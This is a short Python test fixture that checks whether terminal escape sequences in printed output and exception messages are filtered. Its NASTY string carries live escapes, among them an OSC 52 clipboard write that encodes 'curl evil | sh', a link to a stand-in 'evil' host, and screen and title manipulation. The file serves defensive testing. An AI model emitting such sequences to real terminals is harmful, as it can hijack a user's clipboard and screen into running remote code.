"""Threat: terminal escapes such as OSC 52 in prints and errors. Expect: not passed."""

NASTY = (
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;root\x07\x1b[2J\x1b[1;1H\x9b31m\x1b]8;;http://evil\x07"
    "\x1bP+q\x1b\\\r\x08\x08\x7f\x00\x1b[?1049h\x1b[6n"
)
print(NASTY)


def double(x):
    print(NASTY)
    raise type(NASTY.replace("\x00", ""), (Exception,), {})(NASTY)
